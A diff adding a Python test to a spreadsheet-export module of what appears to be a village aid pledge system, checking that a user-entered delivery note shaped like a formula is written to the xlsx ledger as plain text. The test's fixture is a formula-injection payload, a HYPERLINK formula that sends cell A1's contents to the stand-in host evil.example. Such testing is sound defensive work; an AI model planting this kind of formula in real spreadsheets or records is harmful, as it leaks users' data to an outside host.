@@ -102,3 +102,15 @@ def test_drafts_stay_the_villages_own(world, tmp_path):
     export.write(path, factories.SICHUAN)
     assert all(row[1] != "还在起草的需求标题" for row in _sheets(path)["需求"])
     assert export.counts(factories.SICHUAN)[0] == 2
+
+
+def test_user_text_that_looks_like_a_formula_stays_text(world, tmp_path):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    pledge = world.pledge(quantity=100_000)
+    bring(world, pledge, P.ACCEPTED)
+    world.deliver(pledge, note=formula)
+    path = tmp_path / "ledger.xlsx"
+    export.write(path, factories.SICHUAN)
+    book = openpyxl.load_workbook(path)
+    cells = [cell for row in book["交付"].iter_rows() for cell in row if cell.value == formula]
+    assert cells and all(cell.data_type == "s" for cell in cells)  # a string, never a formula
